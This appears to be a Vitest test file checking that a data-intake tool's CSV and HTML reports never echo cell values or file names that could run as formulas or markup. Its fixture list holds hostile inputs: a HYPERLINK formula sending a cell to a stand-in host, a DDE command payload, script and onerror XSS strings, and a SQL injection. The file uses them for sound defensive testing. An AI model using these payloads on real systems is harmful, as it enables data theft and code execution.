import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { knownContracts } from '../../../src/lib/contracts/known-contracts';
import { toReportCsv, toReportHtml, type Reported } from '../../../src/lib/exports/contract-report';
import { findingsOf } from '../../../src/lib/protocol/contract-report';
import { problemRules } from '../../../src/lib/protocol/problem-rules';
import { IntakeReport, ProblemCode } from '../../../src/lib/protocol/report';
import type { Engine } from '../../../src/lib/vault/engine/engine';
import { openNodeEngine } from '../../support/node-engine';
import { parseCsv } from '../../support/parse-csv';
import { makeTable } from '../../support/safe-tables';
import { csv } from '../../support/write-formats';
import { csvFile, drop, pseudonym, tryAdmit } from '../intake/made-files';

let engine: Engine;
beforeAll(async () => {
	engine = await openNodeEngine();
});
afterAll(() => engine.close());

/** What nobody expects in a cell; each bears the mark that no report may show. */
const bizarre = [
	'=HYPERLINK("http://zqx.example/?"&A1,"ZQX")',
	"=cmd|' /C calc'!ZQX",
	'+ZQX',
	'-2+3+ZQX',
	'@SUM(ZQX)',
	'\tZQX',
	'＝ZQX',
	'<script>alert("ZQX")</script>',
	'<img src=x onerror=zqx()>',
	'"ZQX","ZQX"',
	'ZQX\nZQX',
	'\u202eZQX',
	'{{ZQX}}',
	"'; DROP TABLE ZQX; --",
	'NaN ZQX',
	'ZQX'.repeat(400)
];
const formula = /^[\s\u00a0\ufeff]*[=+\-@\t\r\n＝＋－＠]/u;

const reported = (intake: IntakeReport[]): Reported => {
	const { provenance, policy } = makeTable();
	return { intake, provenance, policy, uniqueness: [] };
};

async function reportOn(names: readonly string[], rows: readonly (readonly string[])[], fileName: string): Promise<IntakeReport> {
	const admission = await tryAdmit(engine, csvFile(csv({ names, rows }), fileName));
	if (admission.ok) drop(engine, admission.table);
	return admission.ok ? admission.table.report : admission.report;
}

describe('the report on files', () => {
	it('holds no value of any cell of any column, on screen, as CSV or as HTML', async () => {
		for (const contract of knownContracts) {
			const names = [...contract.fields.map(({ name }) => name), 'Anything'];
			const strange = Array.from({ length: 16 }, (_, row) => names.map((_, at) => bizarre[(row + at) % bizarre.length] ?? ''));
			const linked = strange.map((cells, row) => cells.map((cell, at) => (names[at] === contract.link ? pseudonym(row) : cell)));
			for (const rows of [strange, linked]) {
				const report = await reportOn(names, rows, `${contract.id}.csv`);
				const texts = [toReportCsv(reported([report])).text, toReportHtml(reported([report])).text];
				for (const text of [...texts, JSON.stringify(findingsOf(report))]) {
					expect(text.toLowerCase()).not.toContain('zqx');
					expect(text).not.toMatch(/[0-9a-f]{16}/);
				}
				expect(report.problems.length).toBeGreaterThan(0);
			}
		}
	});

	it('holds no header that may itself be a value', async () => {
		const headers = ['PSEUDO_ID', 'AGE', ...bizarre];
		const report = await reportOn(headers, [headers.map(() => '1')], 'strange.csv');
		const shown = toReportCsv(reported([report])).text + toReportHtml(reported([report])).text;
		expect(shown.replaceAll('ZQX', 'zqx')).not.toMatch(/zqx(?!zqx)[^a-z]*(?:example|calc|script)|<script|<img/);
		expect(shown).not.toMatch(/http:/);
	});

	it('says nothing that a spreadsheet would run, whatever the file is called', () => {
		const intake = bizarre.map((name): IntakeReport => ({
			file: name,
			dataset: null,
			title: name,
			outcome: 'refused',
			recognisedBy: 'nothing',
			confidence: null,
			rows: 120,
			bytes: 1,
			verified: false,
			problems: [{ code: 'holds-names', header: name, column: 2, count: 30 }]
		}));
		const cells = parseCsv(toReportCsv(reported(intake)).text).flat();
		expect(cells.filter((cell) => formula.test(cell))).toEqual([]);
		const html = toReportHtml(reported(intake)).text;
		const inTags = [...html.matchAll(/<(?:td|h2|p|caption|th)[^>]*>([^<]*)/g)].map(([, text = '']) => text);
		expect(
			inTags.filter((text) => formula.test(text.replace(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code)))))
		).toEqual([]);
		const tags = new Set([...html.matchAll(/<([a-z0-9]+)/gi)].map(([, tag]) => tag));
		const own = 'html head meta title style body main h1 h2 p section table caption thead tbody tr th td'.split(' ');
		expect([...tags].filter((tag) => !own.includes(tag ?? ''))).toEqual([]);
	});

	it('gives field, rule, count, share and remedy of each finding', () => {
		const report = IntakeReport.parse({
			file: 'a.csv',
			dataset: 'asc_cld',
			title: 'Adult social care',
			outcome: 'admitted',
			recognisedBy: 'header',
			confidence: 1,
			rows: 200,
			bytes: 1,
			verified: false,
			problems: [
				{ code: 'unknown-codes', field: 'Gender', column: 4, count: 25 },
				{ code: 'invalid-values', field: 'Unit_Cost', column: 9, count: 'fewer than 8' },
				{ code: 'unknown-columns', header: 'Mood', column: 12, count: 8 }
			]
		});
		const [codes, invalid, columns] = findingsOf(report);
		expect(codes).toMatchObject({ field: 'Gender (column 4)', rule: 'A code of the contract’s list', count: 25, share: 12.5 });
		expect(invalid).toMatchObject({ count: 'fewer than 8', share: null });
		expect(columns).toMatchObject({ field: 'Mood (column 12)', share: null });
		const [head, ...records] = parseCsv(toReportCsv(reported([report])).text);
		expect(head).toEqual([
			'File',
			'Dataset',
			'Outcome',
			'Rows',
			'Field',
			'Rule',
			'Found',
			'Count',
			'Share, %',
			'How to put it right'
		]);
		expect(records[0]?.slice(0, 6)).toEqual(['a.csv', 'Adult social care', 'Opened', '200', 'Gender (column 4)', codes?.rule]);
		expect(records[1]?.slice(7, 9)).toEqual(['fewer than 8', '']);
	});

	it('has a rule in words for every problem, and a line for a file without any', () => {
		for (const code of ProblemCode.options) expect(problemRules[code].length).toBeGreaterThan(10);
		const clean: IntakeReport = {
			file: 'b.csv',
			dataset: 'gp_register',
			title: 'GP register',
			outcome: 'admitted',
			recognisedBy: 'manifest',
			confidence: null,
			rows: 9000,
			bytes: 1,
			verified: true,
			problems: []
		};
		expect(toReportCsv(reported([clean])).text).toContain('Nothing was found');
		expect(toReportHtml(reported([clean])).text).toContain('Nothing was found');
	});
});

it('gives no share of one part for what is counted over all parts of an extract', () => {
	const repeats = { code: 'repeats-left-out', count: 30 } as const;
	const shares = (problems: IntakeReport['problems']): unknown => findingsOf({ rows: 60, problems }).map(({ share }) => share);
	expect(shares([repeats])).toEqual([50]);
	expect(shares([{ code: 'part-of-extract' }, repeats])).toEqual([null, null]);
});
